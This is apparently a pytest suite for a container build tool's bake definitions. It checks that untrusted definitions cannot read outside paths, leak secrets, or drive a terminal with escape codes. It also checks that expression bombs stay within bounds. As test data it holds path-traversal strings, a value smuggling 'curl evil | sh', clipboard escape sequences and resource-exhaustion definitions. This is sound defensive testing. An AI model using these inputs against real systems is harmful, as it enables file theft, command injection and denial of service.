"""Definitions of a stranger: what they use must be granted, and neither they nor their values reach a terminal."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from ci_buildx.bake import limits
from ci_buildx.bake.definitions import DefinitionFile
from ci_buildx.bake.entitlements import (
    describe_request,
    find_missing,
    grant_paths,
    make_request,
    parse_entitlements,
)
from ci_buildx.bake.inputs import MOST_BUILT, make_inputs
from ci_buildx.bake.request import BakeRequest, load_files, select_targets
from ci_buildx.errors import InputError
from tests.unit.bake.conftest import Bake
from tests.unit.memory_cluster import MemoryCluster

SECRET = "hunter2hunter2"


def ask(body: str, cwd: Path, *overrides: str, env: dict[str, str] | None = None) -> tuple[str, ...]:
    """The files, agents and privileges that a target asks for."""
    request = BakeRequest(targets=("t",), overrides=overrides)
    file = DefinitionFile(name="docker-bake.hcl", text=f'target "t" {{\n{body}\n}}\n')
    resolved = select_targets(load_files([file], request, env=env or {}, cwd=cwd), request, env or {})
    inputs = [make_inputs(one, "", env or {}) for one in resolved.targets.values()]
    granted = grant_paths(parse_entitlements([]), resolved.allowed, cwd)
    asked = make_request(find_missing(inputs, granted, cwd), cwd)
    return (*asked.lines, *asked.file_lines)


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A checkout with folders whose names look like URLs, beside a folder of the runner."""
    cwd = tmp_path / "deep" / "checkout"
    for name in ("github.com/x", "docker-image:", "git@h:x", "https:"):
        (cwd / name).mkdir(parents=True)
    (cwd / "Dockerfile").write_text("FROM scratch\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "key").write_text("secret")
    return cwd


@pytest.mark.parametrize(
    "body",
    [
        'context = "github.com/../../../outside"',
        'context = "git@h:x/../../../outside"',
        'context = "https://../../../outside"',
        'contexts = { a = "github.com/../../../outside" }',
        'contexts = { a = "docker-image:/../../../outside" }',
        'contexts = { a = "oci-layout://x@/../../../outside" }',
        'dockerfile = "github.com/../../../outside/key"',
        'dockerfile = "git@h:x/../../../outside/key"',
        'ssh = ["default=../../outside/key"]',
        'secret = [{ id = "../../outside/key" }]',
    ],
)
def test_a_path_that_looks_like_something_else_is_a_path(body: str, checkout: Path) -> None:
    line = ask(body, checkout)[-1]
    assert line.startswith(f" - Read access to path {checkout.parent.parent}/outside")


def test_a_dockerfile_by_its_other_name_is_a_path_too(checkout: Path) -> None:
    (checkout / "Dockerfile").unlink()
    (checkout / "dockerfile").symlink_to("../../outside/key")
    assert ask("", checkout) == (f" - Read access to path {checkout.parent.parent}/outside/key",)


@pytest.mark.parametrize(
    ("body", "name"),
    [
        ('output = [{ type = "local", dest = "out", "dest " = "/etc" }]', "'dest '"),
        ('output = [{ type = "local", Dest = "/etc" }]', "'Dest'"),
        ('output = [{ type = "cacheonly", "type=local,x" = "" }]', "'type=local,x'"),
        ('cache-to = [{ type = "registry", "type " = "local", dest = "/etc" }]', "'type '"),
        ('cache-from = [{ type = "registry", TYPE = "local", src = "/etc" }]', "'TYPE'"),
        ('secret = [{ id = "/etc/hostname", src = " " }]', "'id=/etc/hostname,src= '"),
        ('secret = [{ id = "/etc/hostname", env = "\\n" }]', "'id=/etc/hostname,env=\\n'"),
        ('ssh = [{ id = "default=/etc/hostname" }]', "'default=/etc/hostname'"),
        ('ssh = [{ id = "a", paths = ["b,/etc/hostname"] }]', "'b,/etc/hostname'"),
    ],
)
def test_an_entry_that_an_option_would_read_differently_is_refused(body: str, name: str, checkout: Path) -> None:
    with pytest.raises(InputError) as refusal:
        ask(body, checkout)
    assert refusal.value.message == f"{name} is not a valid name or path"


def test_names_of_annotations_may_have_capitals(checkout: Path) -> None:
    assert ask('output = [{ type = "image", "annotation.org.Example" = "x" }]', checkout) == ()


@pytest.mark.parametrize("body", ['ssh = ["default"]', 'ssh = ["default="]', 'ssh = [{ id = "x", paths = [""] }]'])
def test_an_agent_must_be_granted_in_every_spelling(body: str, checkout: Path) -> None:
    assert ask(body, checkout) == (" - Forwarding default SSH agent socket",)


def test_an_override_grants_its_own_paths_and_not_those_that_it_adds_to(checkout: Path) -> None:
    body = 'cache-from = ["type=local,src=../../outside"]'
    assert ask(body, checkout, "t.cache-from+=type=local,src=/usr/lib") == (
        f" - Read access to path {checkout.parent.parent}/outside",
    )
    assert ask("", checkout, "t.cache-from+=type=local,src=/usr/lib") == ()


def test_a_question_shows_all_that_is_asked_for_on_lines_of_its_own(checkout: Path) -> None:
    """Escape sequences could erase it, line breaks could end it, and what it advises is pasted into a shell."""
    hostile, pasted = "\x1b[2A\x1b[J\nPass nothing\u202e", "a; curl evil | sh"
    for name in (hostile, pasted):
        (checkout.parent / name).mkdir()
    body = f'output = ["../{pasted}"]\ncontexts = {{ a = "../\\u001b[2A\\u001b[J\\nPass nothing\\u202e" }}'
    request = BakeRequest(targets=("t",))
    file = DefinitionFile(name="docker-bake.hcl", text=f'target "t" {{\n{body}\n}}\n')
    resolved = select_targets(load_files([file], request, env={}, cwd=checkout), request, {})
    inputs = [make_inputs(one, "", {}) for one in resolved.targets.values()]
    missing = find_missing(inputs, grant_paths(parse_entitlements([]), resolved.allowed, checkout), checkout)
    text = describe_request(make_request(missing, checkout), ["--set", "*.tags=x:1"], interactive=True, hint=True)
    assert all(line.isprintable() for line in text.split("\n"))
    assert " - Read access to path ../\\x1b[2A\\x1b[J\\nPass nothing\\u202e\n" in text
    assert f"'--allow=fs.write=../{pasted}' --set '*.tags=x:1'\n" in text


SECRETS = f"""
variable "NPM_TOKEN" {{ default = "" }}
variable "SHOWN" {{ default = "x" }}
target "default" {{
  args       = {{ NPM_TOKEN = NPM_TOKEN, COPY = "a {SECRET} b", SHOWN = SHOWN }}
  labels     = {{ "db-password" = NPM_TOKEN }}
  cache-to   = ["type=s3,bucket=b,region=r,secret_access_key=${{NPM_TOKEN}}"]
  contexts   = {{ src = "https://user:${{NPM_TOKEN}}@git.example/x.git" }}
  description = "text\\n::add-mask::x \\u001b]52;c;x\\u0007 ${{NPM_TOKEN}}"
}}
"""


@pytest.mark.parametrize("arguments", [("--print",), ("--list", "variables"), ("--list", "targets")])
@pytest.mark.parametrize("given", ["env", "argument"])
def test_nothing_that_is_printed_has_a_secret_or_commands_a_terminal(
    arguments: tuple[str, ...], given: str, bake: Bake
) -> None:
    env = {"NPM_TOKEN": SECRET} if given == "env" else {}
    more = ("--var", f"NPM_TOKEN={SECRET}") if given == "argument" else ()
    run = bake(SECRETS, *arguments, *more, env=env)
    assert run.code == 0, run.stderr
    assert SECRET not in run.stdout + run.stderr
    assert not set(run.stdout) & {"\x1b", "\x07"}
    assert not [line for line in run.stdout.splitlines() if line.lstrip().startswith("::")]
    if arguments == ("--print",):
        target = json.loads(run.stdout)["target"]["default"]
        assert target["args"] == {"COPY": "a *** b", "NPM_TOKEN": "***", "SHOWN": "x"}
        assert target["cache-to"][0]["secret_access_key"] == "***"


WRITTEN = """
variable "TOKEN" { default = "" }
target "default" {
  cache-from = ["type=gha,token=abc", { type = "gha", "token" = "def" }, "type=s3,bucket=b,region=r,session_token=ghi"]
  cache-to   = ["type=gha,token=${TOKEN}"]
}
"""


@pytest.mark.parametrize("value", ["abc-of-the-environment", "b", "gha", "abc", "def"])
def test_a_credential_of_a_cache_is_printed_only_if_the_definition_has_it_in_clear(value: str, bake: Bake) -> None:
    """A variable's value may also be a word that the definition has elsewhere."""
    shown = []
    for more in ({"env": {"TOKEN": value}}, {"env": {"BUILDX_BAKE_DISABLE_VARS_ENV_LOOKUP": "1"}}):
        run = bake(WRITTEN, "--print", *(() if "TOKEN" in more["env"] else ("--var", f"TOKEN={value}")), **more)
        assert run.code == 0, run.stderr
        shown.append(json.loads(run.stdout)["target"]["default"])
    for target in shown:
        assert [one.get("token", one.get("session_token")) for one in target["cache-from"]] == ["abc", "def", "ghi"]
        # A value that the file has as a token is not a secret of the environment.
        assert target["cache-to"][0]["token"] == (value if value in ("abc", "def") else "***")


def test_a_credential_of_an_override_is_not_printed(bake: Bake) -> None:
    run = bake(WRITTEN, "--print", "--set", "*.cache-to=type=gha,token=xyz")
    assert json.loads(run.stdout)["target"]["default"]["cache-to"] == [{"type": "gha", "token": "***"}]


def test_the_command_that_grants_privileges_has_no_secret(bake: Bake) -> None:
    run = bake('target "default" { entitlements = ["network.host"] }', "--var", f"NPM_TOKEN={SECRET}")
    assert run.code == 2
    assert "kube-builder bake --allow=network.host" in run.stderr
    assert SECRET not in run.stderr


COMPOSE = "services: {a: {build: {context: ., args: [KEY]}, env_file: %s}}\n"


def test_a_compose_file_reads_nothing_outside_of_the_working_directory(bake: Bake, tmp_path: Path) -> None:
    """The lines of a file of variables become build arguments."""
    outside = tmp_path.parent / f"{tmp_path.name}-credentials"
    outside.write_text(f"KEY={SECRET}\n")
    (tmp_path / "link").symlink_to(outside)
    for name in (str(outside), f"../{outside.name}", "link"):
        (tmp_path / "compose.yaml").write_text(COMPOSE % name)
        run = bake("", "-f", "compose.yaml", "--print", "a")
        assert run.code == 2
        assert f"'{name}' is outside of the working directory; add --allow=fs.read={name}" in run.stderr
        assert bake("", "-f", "compose.yaml", "--print", "--allow", f"fs.read={name}", "a").code == 0
        assert bake("", "-f", "compose.yaml", "--print", "a", env={"BUILDX_BAKE_ENTITLEMENTS_FS": "0"}).code == 0
    for text in (f"include: [{outside}]\n", f"services: {{a: {{extends: {{service: x, file: {outside}}}}}}}\n"):
        (tmp_path / "compose.yaml").write_text(text)
        run = bake("", "-f", "compose.yaml", "--print")
        assert run.code == 2
        assert "is outside of the working directory" in run.stderr


def chain(first: str, step: str, *, kind: str = "{name} = {value}") -> str:
    """Forty values, each made of the one before."""
    lines = [kind.format(name="a0", value=first)]
    lines += [kind.format(name=f"a{at}", value=step.replace("A", f"a{at - 1}")) for at in range(1, 40)]
    return "\n".join(lines) + "\n"


VARIABLE = 'variable "{name}" {{ default = {value} }}'
TEN = 'join("", [for i in range(1000): "aaaaaaaaaa"])'
TARGET = 'target "default" {}\n'


# A callback of hypothesis in the garbage collector may meet the limit first.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize(
    "definition",
    [
        'x = regex_replace("' + "a" * 40 + '!", "(a+)+$", "")',
        f'x = length(regexall("(a*)*b", {TEN}))',
        "x = [for a in range(1000): [for b in range(1000): [for c in range(1000): a if false]]]",
        'x = "' + "%{for a in range(1000)}" * 5 + "a" + "%{endfor}" * 5 + '"',
        "x = length(setproduct(range(1000), range(1000), range(100)))",
        "x = length(distinct(flatten([for a in range(100): [for b in range(1000): a * b]])))",
        f'x = replace(replace({TEN}, "a", {TEN}), "a", {TEN})',
        'x = [for i in range(1000): [for j in range(1000): format("%10000d", i + j)]]',
        chain('"0123456789"', '"${A}${A}"'),
        chain("[1]", "[A, A]", kind=VARIABLE),
        chain('{ a = "b" }', "{ a = A, b = A }", kind=VARIABLE),
        'function "f0" {\n params = [x]\n result = "${x}${x}"\n}\n'
        + "".join(
            f'function "f{at}" {{\n params = [x]\n result = "${{f{at - 1}(x)}}${{f{at - 1}(x)}}"\n}}\n'
            for at in range(1, 40)
        )
        + 'x = f39("a")',
    ],
)
def test_a_bomb_ends_within_bounds(definition: str, bake: Bake, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SECONDS", 0.2)
    monkeypatch.setattr(limits, "MEMORY", 256 << 20)
    run = bake(f"{TARGET}{definition}\n", "--list", "variables")
    assert run.code == 2, run.stderr
    assert re.search(
        r"docker-bake\.hcl: the definition takes more than 0\.2 seconds|than 256 MiB|than 4194304 char|than 100000 el",
        run.stderr,
    )
    # The process is as it was.
    assert bake(TARGET, "--list", "targets").code == 0


@pytest.mark.parametrize(
    "definition",
    [
        chain("1e1000", "A * A"),
        chain("1e-1000", "A * A"),
        chain("1e1000", "multiply(A, A)"),
        'x = parseint(join("", [for i in range(1000): "99999999"]), 10)',
        'variable "x" { default = "${1e9999}" }',
        'x = jsondecode("1e9999")',
    ],
)
def test_numbers_have_bounds(definition: str, bake: Bake) -> None:
    """Each is beyond MOST_BITS."""
    run = bake(f"{TARGET}{definition}\n", "--list", "variables")
    assert run.code == 2, run.stderr
    assert "too large" in run.stderr or "Failed to recognize the value of this number" in run.stderr


def test_large_numbers_within_the_bounds_are_printed(bake: Bake) -> None:
    run = bake('variable "x" { default = "${1e1500}${1e-1500}" }', "--list", "type=variables,format=json")
    assert run.code == 0, run.stderr
    assert len(json.loads(run.stdout)[0]["value"]) > 3000


def link(count: int, attribute: str) -> str:
    """Targets that each name the next one twice."""
    lines = [f'target "t{at}" {{\n {attribute.replace("NEXT", f"t{at + 1}")}\n}}\n' for at in range(count)]
    return "".join(lines) + f'target "t{count}" {{}}\n'


def test_links_that_double_are_followed_once(bake: Bake) -> None:
    run = bake(link(40, 'contexts = { a = "target:NEXT", b = "target:NEXT" }'), "--print", "t0")
    assert run.code == 0, run.stderr
    assert len(json.loads(run.stdout)["target"]) == 41


def test_groups_that_double_end_within_bounds(bake: Bake, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SECONDS", 0.2)
    monkeypatch.setattr(limits, "MEMORY", 256 << 20)
    pairs = [(name, at) for at in range(60) for name in "ab"]
    groups = "".join(f'group "{name}{at}" {{ targets = ["a{at + 1}", "b{at + 1}"] }}\n' for name, at in pairs)
    run = bake(groups + 'target "a60" {}\ntarget "b60" {}\n', "--print", "a0")
    assert run.code == 2
    assert "takes more than" in run.stderr


@pytest.mark.parametrize("attribute", ['contexts = { a = "target:NEXT" }', 'inherits = ["NEXT"]'])
def test_chains_without_end_are_an_error(attribute: str, bake: Bake) -> None:
    run = bake(link(1200, attribute), "--print", "t0")
    assert run.code == 2
    assert "nested too deeply" in run.stderr


def test_a_command_has_a_bound_on_its_targets(bake: Bake, memory_cluster: MemoryCluster) -> None:
    matrix = "matrix = { x = range(0, 40), y = range(0, 40) }"
    run = bake(f'target "default" {{\n {matrix}\n name = "t${{x}}-${{y}}"\n}}\n')
    assert run.code == 2
    assert f"1600 targets are requested, more than {MOST_BUILT}; name fewer targets" in run.stderr
    assert memory_cluster.asked == []


def test_the_description_above_an_answer_commands_no_terminal(bake: Bake, memory_cluster: MemoryCluster) -> None:
    memory_cluster.script.call = lambda _: {"result.json": "{}", "result.txt": "said\n"}
    definition = 'target "default" { description = "::error::a\\u001b]52;c;x\\u0007\\n::error::b" }\n'
    run = bake(definition, "--call", "outline")
    assert run.code == 0, run.stderr
    assert run.stdout.startswith("default\n: :error::a ::error::b\n")
